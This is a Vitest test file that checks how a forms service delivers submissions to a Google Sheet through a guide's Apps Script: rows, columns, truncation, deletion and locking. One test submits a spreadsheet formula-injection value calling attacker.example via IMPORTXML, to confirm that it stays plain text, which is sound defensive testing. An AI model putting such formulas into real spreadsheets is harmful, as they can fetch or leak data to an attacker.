import { readFileSync } from "node:fs";
import { join } from "node:path";
import { expect, test } from "vitest";
import { db } from "#lib/adapters/db/database";
import { testWebhook } from "#lib/domain/endpoints/test-webhook";
import { updateForm } from "#lib/domain/forms/update-form";
import { deleteSubmission } from "#lib/domain/submissions/delete-submissions";
import { drainOutbox } from "#lib/entry/jobs/drain-outbox";
import { ROOT } from "#server/start/checkout";
import { acceptedId, type Post, postVisit } from "#tests/support/contract/intake";
import { addDestination } from "#tests/support/factories/destination-factories";
import { contextAt, createOwnForm } from "#tests/support/factories/factories";
import { readBlocks } from "#tests/support/guides/blocks";
import { deployScript } from "#tests/support/twins/google-sheets";
import { setUpServices } from "#tests/support/twins/service-receiver";
import { createTestClock, receiveAt, START } from "#tests/support/twins/test-clock";

const services = await setUpServices();

const GUIDE = readFileSync(join(ROOT, "docs/guides/google-sheets.md"), "utf8");
const SCRIPT = readBlocks("google-sheets", GUIDE).find(({ file }) => file === "Code.gs")?.code;

/** A form whose messages go to a sheet with the guide's script. */
async function setUp(input: Record<string, unknown> = {}) {
  await receiveAt(START);
  const { workspace, form } = await createOwnForm({ now: START });
  const kind = "sheets" as const;
  const destination = await addDestination(workspace, form, { kind, now: START, ...input });
  const script = deployScript(SCRIPT ?? "");
  services.reply(script.reply);
  const clock = createTestClock(START);
  const post = async (body: Post) => {
    const id = await acceptedId(await postVisit(form.publicKey, body));
    await drainOutbox(clock);
    return id;
  };
  const submit = (fields: object) => post({ json: fields });
  const statuses = async () => {
    const where = { webhookId: destination.id };
    const rows = await db().delivery.findMany({ where, orderBy: { createdAt: "asc" } });
    return rows.map(({ status }) => status);
  };
  const rows = () => script.read("Messages");
  return { workspace, form, destination, script, clock, post, submit, statuses, rows };
}

test("each message becomes a row with its IDs, time, and fields", async () => {
  const { submit, statuses, rows } = await setUp();
  const id = await submit({ name: "Zoë 👋", email: "zoe@example.com", tags: ["a", "b"] });
  expect(rows()).toEqual([
    {
      Received: START,
      "Message ID": id,
      "Event ID": expect.stringMatching(/^[0-9a-f-]{36}$/),
      Files: "",
      Link: "",
      "More fields": "",
      name: "Zoë 👋",
      email: "zoe@example.com",
      tags: "a\nb",
    },
  ]);
  expect(await statuses()).toEqual(["delivered"]);
});

test("an event that arrives again doesn't add a row, and succeeds", async () => {
  const { submit, script, rows } = await setUp();
  await submit({ message: "Hello" });
  await submit({ message: "Hello" });
  expect(rows()).toHaveLength(2);
  for (const { body } of services.received) expect(script.respond(body).status).toBe(302);
  expect(rows()).toHaveLength(2);
});

test("a new field gets a column, and earlier rows keep theirs", async () => {
  const { submit, rows } = await setUp();
  await submit({ name: "Ada" });
  await submit({ phone: "+49 30 123", name: "Bo" });
  expect(rows()).toMatchObject([
    { name: "Ada", phone: "" },
    { name: "Bo", phone: "+49 30 123" },
  ]);
});

test("values and names of fields stay text, whatever they look like", async () => {
  const { submit, rows } = await setUp();
  const fields = {
    one: '=IMPORTXML("https://attacker.example")',
    two: "+1+1",
    three: "007",
    four: "'quoted",
    five: "-1",
    "=1+1": "x",
    "@SUM": "2026-11-21",
  };
  await submit(fields);
  expect(rows()).toMatchObject([fields]);
});

test("fields with the names of the script's columns change none of them", async () => {
  const { submit, rows } = await setUp();
  const id = await submit({ "Event ID": "e", "Message ID": "m", Received: "r" });
  expect(rows()).toMatchObject([
    { "Message ID": id, Received: START, "Event ID (field)": "e", "Message ID (field)": "m" },
  ]);
  expect(rows()[0]?.["Event ID"]).not.toBe("e");
});

test("50 fields widen the sheet, and beyond 100 columns they share one", async () => {
  const { submit, statuses, rows } = await setUp();
  const fieldsOf = (prefix: string) =>
    Object.fromEntries(Array.from({ length: 50 }, (_, index) => [`${prefix}${index}`, `${index}`]));
  await submit(fieldsOf("a"));
  expect(rows()).toMatchObject([fieldsOf("a")]);
  await submit(fieldsOf("b"));
  await submit({ c: "last" });
  const [, second, third] = rows();
  expect(Object.keys(second ?? {})).toHaveLength(100);
  expect(second).toMatchObject({ b43: "43" });
  expect(second?.["More fields"]).toMatch(/^b44: 44\n(b\d\d: \d\d\n){4}b49: 49$/);
  expect(third).toMatchObject({ "More fields": "c: last", b0: "" });
  expect(await statuses()).toEqual(["delivered", "delivered", "delivered"]);
});

test("a text that is too long for a cell is cut", async () => {
  const { submit, statuses, rows } = await setUp();
  await submit({ notes: Array.from({ length: 5 }, () => "x".repeat(20_000)) });
  expect(String(rows()[0]?.notes)).toHaveLength(45_000);
  expect(await statuses()).toEqual(["delivered"]);
});

test("files are listed by name", async () => {
  const { workspace, form, post, rows } = await setUp();
  const settings = { uploads: { enabled: true } };
  await updateForm(contextAt(workspace, START), form.id, { settings });
  const file = { name: "cv", filename: "cv.txt", content: "Hello" };
  const multipart = [{ name: "name", content: "Ada" }, file];
  await post({ multipart, headers: { accept: "application/json" } });
  expect(rows()).toMatchObject([{ name: "Ada", Files: "cv.txt" }]);
});

test("a test adds a row with its text", async () => {
  const { workspace, form, destination, clock, rows } = await setUp();
  await testWebhook(contextAt(workspace, START), form.id, destination.id);
  await drainOutbox(clock);
  expect(rows()).toMatchObject([{ message: expect.stringMatching(/^This is a test/) }]);
});

test("a link-only destination adds the name and the link", async () => {
  const { submit, rows } = await setUp({ content: "link" });
  const id = await submit({ name: "Ada", message: "Secret" });
  expect(rows()).toMatchObject([{ name: "Ada", Link: expect.stringContaining(`/inbox/${id}`) }]);
  expect(JSON.stringify(rows())).not.toContain("Secret");
});

test("a deleted message loses its row, and no other", async () => {
  const events = ["submission.created", "submission.deleted"];
  const { workspace, submit, clock, rows } = await setUp({ events });
  const first = await submit({ name: "Ada" });
  // Mentions the other's ID.
  await submit({ name: first });
  await deleteSubmission(contextAt(workspace, START), first);
  await drainOutbox(clock);
  expect(rows()).toMatchObject([{ name: first }]);
});

test("while another call holds the lock, the message is sent again later", async () => {
  const { script, clock, submit, statuses, rows } = await setUp();
  script.lock.waitLock();
  await submit({ name: "Ada" });
  expect(await statuses()).toEqual(["retrying"]);
  script.lock.releaseLock();
  clock.advance(60 * 60_000);
  await drainOutbox(clock);
  expect(await statuses()).toEqual(["delivered"]);
  expect(rows()).toMatchObject([{ name: "Ada" }]);
});
